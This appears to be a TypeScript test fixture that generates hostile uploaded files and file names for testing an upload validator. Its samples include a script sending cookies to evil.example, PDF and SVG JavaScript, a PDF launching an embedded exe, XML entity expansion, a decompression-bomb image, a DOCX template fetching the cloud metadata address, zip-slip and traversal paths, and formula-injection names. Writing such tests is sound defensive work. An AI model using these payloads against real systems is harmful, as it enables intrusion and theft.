import { crc32, deflateSync } from 'node:zlib';
import { aDocx, aGif, aPdf, aPng, aZip } from './sample-files.factory.ts';

/** A file from a sender who means harm, or whose computer does. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Whether the file is accepted. Some are harmless as they are kept: their active content is never run. */
  readonly taken: boolean;
}

const text = (content: string): Uint8Array => Buffer.from(content, 'latin1');
const page = '<!doctype html><html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>';
const script = 'alert(document.domain)//';
const megabyte = 1024 * 1024;

const part = (name: string, content: string) => ({ name, content });

/** A relationship of the document to a resource on another machine. */
const outside = part(
  'word/_rels/document.xml.rels',
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" TargetMode="External" Target="http://169.254.169.254/latest/meta-data" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>`,
);

const entities = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "${'ha'.repeat(50)}">${'bcdefghi'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`)
  .join(
    '',
  )}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>`;

const actingPdf = (): Uint8Array => {
  const plain = Buffer.from(aPdf(['Curriculum vitae'])).toString('latin1');
  const acting = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>';
  return text(plain.replace('<< /Type /Catalog /Pages 2 0 R >>', acting));
};

/** Returns a PDF with a program attached, which a click would start. */
const carryingPdf = (): Uint8Array => {
  const plain = Buffer.from(aPdf(['Curriculum vitae'])).toString('latin1');
  const carrying =
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cv.exe) >> /Names << /EmbeddedFiles << /Names [(cv.exe) << /Type /Filespec /F (cv.exe) /EF << /F << /Type /EmbeddedFile /Length 2 >> >> >>] >> >> >>';
  return text(plain.replace('<< /Type /Catalog /Pages 2 0 R >>', carrying));
};

const joined = (...parts: readonly Uint8Array[]): Uint8Array => Buffer.concat(parts);

/** Returns a picture of so many black points a side: small as a file, gigabytes once it is decoded. */
function widePng(side: number): Uint8Array {
  const chunk = (kind: string, data: Uint8Array): Uint8Array => {
    const body = joined(text(kind), data);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length);
    frame.writeUInt32BE(crc32(body), 4);
    return joined(frame.subarray(0, 4), body, frame.subarray(4));
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  const lines = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 1 });
  const parts = [chunk('IHDR', header), chunk('IDAT', lines), chunk('IEND', new Uint8Array())];
  return joined(text('\x89PNG\r\n\x1a\n'), ...parts);
}

async function wrongTypes(): Promise<HostileFile[]> {
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
  return [
    { what: 'a page called a PDF', name: 'cv.pdf', bytes: text(page), taken: false },
    { what: 'a page that begins like a PDF', name: 'cv.pdf', bytes: text(`%PDF-1.7\n${page}`), taken: false },
    { what: 'a script called a PDF', name: 'cv.pdf', bytes: text(script), taken: false },
    { what: 'a drawing called a picture', name: 'photo.png', bytes: text(drawing), taken: false },
    { what: 'a drawing', name: 'photo.svg', bytes: text(drawing), taken: false },
    { what: 'a PDF called a picture', name: 'photo.png', bytes: aPdf(['x']), taken: false },
    { what: 'a picture called a document', name: 'cv.docx', bytes: await aPng(), taken: false },
    { what: 'an archive called a document', name: 'cv.docx', bytes: aZip([part('a.txt', 'x')]), taken: false },
    { what: 'a program', name: 'cv.exe', bytes: joined(text('MZ\x90\x00'), Buffer.alloc(500)), taken: false },
    { what: 'two endings', name: 'cv.pdf.html', bytes: aPdf(['x']), taken: false },
    { what: '50,000 points a side', name: 'photo.png', bytes: widePng(50_000), taken: false },
    { what: 'nothing', name: 'cv.pdf', bytes: new Uint8Array(), taken: false },
    { what: 'one zero', name: 'cv.pdf', bytes: new Uint8Array(1), taken: false },
    { what: 'fifty megabytes', name: 'cv.pdf', bytes: joined(aPdf(['x']), Buffer.alloc(50 * megabyte)), taken: false },
  ];
}

/** Returns files that are of two kinds at once. */
async function polyglots(): Promise<HostileFile[]> {
  return [
    {
      what: 'an archive behind a PDF',
      name: 'cv.pdf',
      bytes: joined(aPdf(['x']), aZip([part('x.html', page)])),
      taken: true,
    },
    { what: 'a page behind a PDF', name: 'cv.pdf', bytes: joined(aPdf(['x']), text(page)), taken: true },
    { what: 'a PDF behind a page', name: 'cv.pdf', bytes: joined(text(page), aPdf(['x'])), taken: false },
    {
      what: 'a page behind a picture',
      name: 'photo.gif',
      bytes: joined(await aGif(), text(`*/=1;${page}`)),
      taken: true,
    },
    {
      what: 'a script that begins like a picture',
      name: 'photo.gif',
      bytes: text(`GIF89a/*${page}*/=1;${script}`),
      taken: false,
    },
    {
      what: 'a program before a document',
      name: 'cv.docx',
      bytes: joined(text('MZ\x90\x00'), aDocx(['x'])),
      taken: false,
    },
    { what: 'a page before a document', name: 'cv.docx', bytes: joined(text(page), aDocx(['x'])), taken: false },
    { what: 'a PDF with a program attached', name: 'cv.pdf', bytes: carryingPdf(), taken: true },
    { what: 'a PDF that acts when it is opened', name: 'cv.pdf', bytes: actingPdf(), taken: true },
  ];
}

function documents(): HostileFile[] {
  const bomb = aDocx(['x'], [{ name: 'word/styles.xml', content: Buffer.alloc(150 * megabyte) }]);
  const many = Array.from({ length: 12_000 }, (_, index) => part(`word/${index}.xml`, ''));
  const doctype = aZip([part('[Content_Types].xml', '<Types/>'), part('word/document.xml', entities)]);
  return [
    { what: 'a bomb', name: 'bomb.docx', bytes: bomb, taken: true },
    { what: 'entities that grow', name: 'entities.docx', bytes: doctype, taken: true },
    { what: 'too many parts', name: 'many.docx', bytes: aDocx(['x'], many), taken: false },
    {
      what: 'parts outside of the folder',
      name: 'slip.docx',
      bytes: aDocx(['x'], [part('../../../etc/cron.d/x', 'x')]),
      taken: true,
    },
    { what: 'macros', name: 'macros.docx', bytes: aDocx(['x'], [part('word/vbaProject.bin', 'x')]), taken: false },
    { what: 'macros called otherwise', name: 'macros.docm', bytes: aDocx(['x']), taken: false },
    {
      what: 'a program within a document',
      name: 'object.docx',
      bytes: aDocx(['x'], [part('word/embeddings/oleObject1.bin', 'MZ\x90')]),
      taken: true,
    },
    { what: 'a template on another machine', name: 'outside.docx', bytes: aDocx(['x'], [outside]), taken: true },
  ];
}

async function cutFiles(): Promise<HostileFile[]> {
  const whole = [
    ['cv.pdf', aPdf(['Curriculum vitae'])],
    ['cv.docx', aDocx(['Curriculum vitae'.repeat(30)])],
    ['photo.png', await aPng(64, 64)],
  ] as const;
  return whole.flatMap(([name, bytes]) =>
    [0.2, 0.5, 0.9].map((share) => ({
      what: `${Math.round(share * 100)}% of ${name}`,
      name,
      bytes: bytes.subarray(0, Math.floor(bytes.length * share)),
      taken: false,
    })),
  );
}

/** Returns every bad file of the corpus. */
export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...(await wrongTypes()),
  ...(await polyglots()),
  ...documents(),
  ...(await cutFiles()),
];

/** Names that have led to places outside a folder or misled a reader, and the name under which each is kept. */
export const hostileNames: readonly (readonly [sent: string, kept: RegExp])[] = [
  ['../../../../etc/passwd.pdf', /^passwd\.pdf$/],
  ['..\\..\\windows\\system32\\cv.pdf', /^cv\.pdf$/],
  ['/etc/cron.d/cv.pdf', /^cv\.pdf$/],
  ['cv\u202efdp.exe.pdf', /^cvfdp\.exe\.pdf$/],
  ['\u2066cv\u2069\u200b.pdf', /^cv\.pdf$/],
  ['cv\u0000.exe.pdf', /\.pdf$/],
  ['CON.pdf', /\.pdf$/],
  ['.htaccess.pdf', /^htaccess\.pdf$/],
  ['<img src=x onerror=alert(1)>.pdf', /^[^<>"]+\.pdf$/],
  ['%2e%2e%2fcv.pdf', /\.pdf$/],
  [`${'é'.repeat(400)}.pdf`, /^é{1,100}\.pdf$/],
  ['Zoe\u0308 履歴書 سيرة.pdf', /^Zoë 履歴書 سيرة\.pdf$/],
  ['=cmd|"/c calc"!A1.pdf', /\.pdf$/],
];
